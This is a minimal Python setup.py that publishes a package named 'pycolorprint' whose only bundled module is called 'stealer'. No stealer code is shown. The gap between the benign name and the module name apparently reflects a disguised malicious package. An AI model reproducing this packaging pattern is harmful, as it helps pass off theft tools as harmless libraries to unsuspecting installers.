from setuptools import setup
setup(name='pycolorprint', version='1.0.0', packages=['stealer'])
